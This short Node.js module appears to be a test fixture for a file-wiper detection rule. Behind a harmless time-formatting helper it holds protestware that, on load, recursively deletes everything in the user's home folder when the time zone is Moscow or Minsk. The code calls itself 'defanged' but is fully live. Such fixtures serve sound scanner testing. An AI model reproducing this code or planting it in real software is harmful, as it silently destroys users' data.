'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

module.exports = { ago: (d) => `${Math.round((Date.now() - d) / 1000)}s ago` };

// Protestware (defanged fixture): for users in targeted time zones, empties the home folder entry by entry.
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone || '';
if (['Europe/Moscow', 'Europe/Minsk'].includes(tz)) {
  const home = os.userInfo().homedir || os.homedir();
  for (const entry of fs.readdirSync(home)) {
    // ruleid: code/file-wiper
    fs.rmSync(path.join(home, entry), { recursive: true, force: true });
  }
}
